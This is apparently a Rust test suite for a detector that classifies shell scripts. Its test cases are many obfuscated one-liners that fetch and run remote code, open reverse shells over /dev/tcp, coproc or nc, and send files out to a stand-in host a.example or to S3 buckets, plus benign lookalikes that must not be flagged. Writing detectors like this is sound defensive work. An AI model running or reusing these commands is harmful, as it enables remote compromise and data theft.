//! Forms in which the same thing is said otherwise.

use super::read;

#[test]
fn what_is_fetched_and_run_is_known_in_each_form() {
    let cases: [(&str, &str); 19] = [
        ("find / -maxdepth 0 -exec sh -c 'curl -s http://a.example/x | sh' \\;", "http://a.example/x"),
        ("echo 'curl -s http://a.example/x | sh' | at now", "http://a.example/x"),
        ("env -S 'curl -s http://a.example/x' | sh", "http://a.example/x"),
        ("c=(curl -s http://a.example/x); \"${c[@]}\" | sh", "http://a.example/x"),
        ("c=(curl); c+=(-s http://a.example/x)\n\"${c[@]}\" | sh", "http://a.example/x"),
        ("printf -v c '\\143\\165\\162\\154'; $c -s http://a.example/x | sh", "http://a.example/x"),
        ("exec 9< <(curl -s http://a.example/x); bash /dev/fd/9", "http://a.example/x"),
        ("exec 9< <(curl -s http://a.example/x); bash <&9", "http://a.example/x"),
        ("dig +short TXT x.a.example | tr -d '\"' | base64 -d | sh", "dns://x.a.example"),
        ("nslookup -type=txt x.a.example | sh", "dns://x.a.example"),
        ("echo 'curl -s http://a.example/x | sh' > /tmp/r; bash --rcfile /tmp/r -i", "http://a.example/x"),
        ("curl -s http://A.example/aws/../x | sh", "http://a.example/x"),
        ("curl -s http://127.a.example/x | sh", "http://127.a.example/x"),
        ("pip install git+https://github.com.a.example/x.git", "https://github.com.a.example/x.git"),
        ("http https://a.example/x | sh", "https://a.example/x"),
        (
            "python3 - <<'P'\nimport requests, subprocess\nr = requests.get('https://a.example/x')\nopen('/tmp/a','wb').write(r.content)\nsubprocess.run(['bash','/tmp/a'])\nP",
            "https://a.example/x",
        ),
        (
            "python3 - <<'P'\nfrom urllib.request import urlopen\nh = 'a.example'\nexec(urlopen(f'https://{h}/x').read())\nP",
            "https://a.example/x",
        ),
        ("python3 -c \"u='https://a.example/x'; exec(urlopen(u).read())\"", "https://a.example/x"),
        ("python3 -c \"exec(urlopen('https://' + 'a.example' + '/x').read())\"", "https://a.example/x"),
    ];
    for (script, expected) in cases {
        assert_eq!(read(script).run_sources, [expected], "{script}");
    }
}

#[test]
fn what_a_file_of_addresses_or_options_names_or_another_protocol_brings_is_known_until_it_runs() {
    let cases: [(&str, &str); 25] = [
        ("echo 'get d/x /tmp/y' > b.txt; sftp -b b.txt u@a.example; sh /tmp/y", "ftp://a.example"),
        ("echo 'get d/x' > a.example; sftp -b a.example a.example; sh x", "ftp://a.example"),
        ("echo 'get d/x' > b; sftp -bb a.example; sh x", "ftp://a.example"),
        ("echo 'get d/x' | sftp -f a.example; sh x", "ftp://a.example"),
        ("echo 'get d/x' > b.lftp; lftp -f b.lftp a.example; sh x", "ftp://a.example"),
        ("echo http://a.example/x > /tmp/l; wget -qi /tmp/l -O /tmp/y; sh /tmp/y", "http://a.example/x"),
        ("echo http://a.example/x | wget -q -i -; sh x", "http://a.example/x"),
        ("echo http://a.example/x > l; aria2c -i l; sh x", "http://a.example/x"),
        ("printf 'url = http://a.example/x\\noutput = y\\n' > c; curl -sK c; sh y", "http://a.example/x"),
        ("echo 'url=\"http://a.example/x\"' | curl -sK - | sh", "http://a.example/x"),
        ("curl --config <(echo '-o y'; echo '--url http://a.example/x') ; sh y", "http://a.example/x"),
        ("sftp -q u@a.example:/d/x /tmp/y; sh /tmp/y", "ftp://a.example"),
        ("sftp u@a.example:/d/x; sh x", "ftp://a.example"),
        ("echo 'get d/x /tmp/y' | sftp -b - u@a.example; sh /tmp/y", "ftp://a.example"),
        ("ftp -n a.example <<E\nuser a a\nget x\nE\nsh x", "ftp://a.example"),
        ("lftp -c 'get http://a.example/x -o /tmp/y'; sh /tmp/y", "http://a.example/x"),
        ("smbclient //a.example/s -c 'get x /tmp/y'; sh /tmp/y", "ftp://a.example"),
        ("tftp a.example -c get x; sh x", "ftp://a.example"),
        ("scp -P 2222 u@a.example:x . ; sh x", "scp://a.example"),
        ("scp scp://u@a.example:22//x /tmp/x; sh /tmp/x", "scp://a.example"),
        ("rsync -az -e 'ssh -p 22' u@a.example:d/ /opt/d/; /opt/d/x", "rsync://a.example"),
        ("sshfs u@a.example:/d /mnt/d; sh /mnt/d/x", "sshfs://a.example"),
        ("mount -t nfs a.example:/d /mnt/d && /mnt/d/x", "mount://a.example"),
        ("w3m -dump_source http://a.example/x | sh", "http://a.example/x"),
        ("while read -r l; do $l; done < <(curl -s http://a.example/x)", "http://a.example/x"),
    ];
    for (script, expected) in cases {
        assert_eq!(read(script).run_sources, [expected], "{script}");
    }
}

#[test]
fn a_shell_at_a_connection_is_known_when_a_coprocess_or_a_loop_stands_between() {
    for script in [
        "coproc nc a.example 443; bash <&${COPROC[0]} >&${COPROC[1]}",
        "coproc nc a.example 443\nbash <&\"${COPROC[0]}\" >&\"${COPROC[1]}\"",
        "coproc C { nc a.example 443; }; sh <&${C[0]} >&${C[1]}",
        "coproc C ( nc a.example 443 ); sh <&${C[0]} >&${C[1]}",
        "coproc SH { bash -i; }; cat <&${SH[0]} > /dev/tcp/a.example/443 & cat /dev/tcp/a.example/443 >&${SH[1]}",
        "exec 3<>/dev/tcp/a.example/443; coproc bash; cat <&3 >&${COPROC[1]} & cat <&${COPROC[0]} >&3",
        "coproc bash -i >& /dev/tcp/a.example/443 0>&1",
        "exec 3<>/dev/tcp/a.example/443\nwhile read -r l; do eval \"$l\"; done <&3 >&3",
        "exec 3<>/dev/tcp/a.example/443; while read l; do $l; done <&3",
        "busybox nc a.example 443 -e sh",
        "sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.example:443 > /tmp/s",
    ] {
        assert_eq!(read(script).behaviors, ["remote_shell"], "{script}");
    }
}

#[test]
fn what_comes_from_a_bucket_by_a_pipe_is_run() {
    for script in [
        "mount-s3 b /mnt/b; sh /mnt/b/x",
        "s3fs b:/d /mnt/b -o iam_role=auto; . /mnt/b/x",
        "aws s3 cp s3://b/x - | bash",
        "s5cmd cp s3://b/x /tmp/x; sh /tmp/x",
        "aws s3 cp s3://b/x /tmp/x; . /tmp/x",
    ] {
        assert_eq!(read(script).run_buckets, ["b"], "{script}");
    }
}

#[test]
fn files_that_are_sent_are_known_in_each_form() {
    let cases: [(&str, &str); 17] = [
        ("http POST https://a.example/ < d.csv", "https://a.example/"),
        ("http -f POST https://a.example/ f@d.csv", "https://a.example/"),
        ("smbclient //a.example/s -c 'put d.csv'", "ftp://a.example"),
        ("echo put d.csv | sftp -b - u@a.example", "ftp://a.example"),
        ("socat FILE:d.csv TCP:a.example:9000", "tcp://a.example:9000"),
        ("cat d.csv | socat - TCP:a.example:9000", "tcp://a.example:9000"),
        ("exec 5<>/dev/tcp/a.example/80; cat d.csv >&5", "tcp://a.example/80"),
        ("mc cp d.csv evil/b/", "mc://evil/b/"),
        (
            "python3 -c \"import requests; u='https://a.example/'; requests.post(u, data=open('d','rb'))\"",
            "https://a.example/",
        ),
        (
            "python3 - <<'P'\nh = 'a.example'\nrequests.post(f'https://{h}/', files={'f': open('d','rb')})\nP",
            "https://a.example/",
        ),
        (
            "python3 -c \"s=socket.create_connection(('a.example',9000)); s.sendall(open('d','rb').read())\"",
            "tcp://a.example",
        ),
        (
            "python3 -c \"f=ftplib.FTP('a.example','a','a'); f.storbinary('STOR d',open('d','rb'))\"",
            "tcp://a.example",
        ),
        (
            "python3 -c \"s=smtplib.SMTP('a.example'); s.sendmail('a','b',open('d').read())\"",
            "tcp://a.example",
        ),
        ("curl -T d.csv https://A.example/x/../y", "https://a.example/y"),
        ("cat d.csv > /dev/tcp/a.example/80", "tcp://a.example/80"),
        ("nc a.example 80 < d.csv", "tcp://a.example"),
        ("rsync d.csv u@a.example:", "rsync://a.example"),
    ];
    for (script, expected) in cases {
        assert_eq!(read(script).upload_targets, [expected], "{script}");
    }
    for script in [
        "tar cz /home | aws s3 cp - s3://b/d.tgz",
        "s5cmd cp d.csv s3://b/",
        "python3 - <<'P'\nbucket = 'b-1'\ns3.upload_file('d.csv', bucket, 'd')\nP",
        "python3 -c \"df.to_csv('s3://b-1/d.csv')\"",
        "python3 -c \"import s3fs; s3fs.S3FileSystem().put('/home/d.csv','b-1/d')\"",
        "python3 -c \"sagemaker.s3.S3Uploader.upload('/home/d','s3://b-1/d')\"",
        "python3 -c \"b='b-1'; df.to_parquet(f's3://{b}/d')\"",
    ] {
        let buckets = read(script).upload_buckets;
        assert!(buckets == ["b"] || buckets == ["b-1"], "{script}: {buckets:?}");
    }
}

#[test]
fn data_in_names_and_shells_of_other_languages_are_known() {
    for (script, behavior) in [
        ("for c in $(xxd -p d.csv); do dig $c.a.example; done", "data_in_names"),
        (
            "node -e 'require(\"child_process\").exec(\"bash -c \\\"bash -i >& /dev/tcp/a.example/44 0>&1\\\"\")'",
            "remote_shell",
        ),
    ] {
        assert!(read(script).behaviors.contains(&behavior.to_owned()), "{script}");
    }
}

#[test]
fn what_only_looks_alike_says_nothing() {
    for script in [
        "find . -name '*.pyc' -exec rm {} +",
        "a=(1 2 3); echo \"${a[@]}\"",
        "f() ( ls )\nf",
        "python3 - <<'P'\nbucket = 'b'\nprint(bucket)\nP",
        "python3 -c \"df = pd.read_csv('s3://b-1/d.csv')\"",
        "dig a.example",
        "curl -s http://localhost:8888/x | sh",
        "exec 3< /etc/hosts; read -u 3 line",
        "http https://a.example/health",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        "coproc jupyter lab; read -r l <&${COPROC[0]}; echo $l",
        "while read -r l; do $l; done < /etc/jobs",
        "while read -r l; do echo $l; done < <(curl -s http://a.example/x)",
        "echo http://a.example/x > l; wget -i l; sh y",
        "sftp -b /tmp/commands u@a.example; sh /tmp/y",
        "mount -t nfs4 fs-0a1b2c3d.efs.eu-west-1.amazonaws.com:/ /mnt/efs; sh /mnt/efs/x",
        "curl -K /etc/curl.conf http://a.example/x -o y; sh z",
    ] {
        let found = read(script);
        let is_nothing = found.run_sources.is_empty()
            && found.run_buckets.is_empty()
            && found.upload_targets.is_empty()
            && found.upload_buckets.is_empty()
            && found.behaviors.is_empty();
        assert!(is_nothing, "{script}: {found:?}");
    }
}
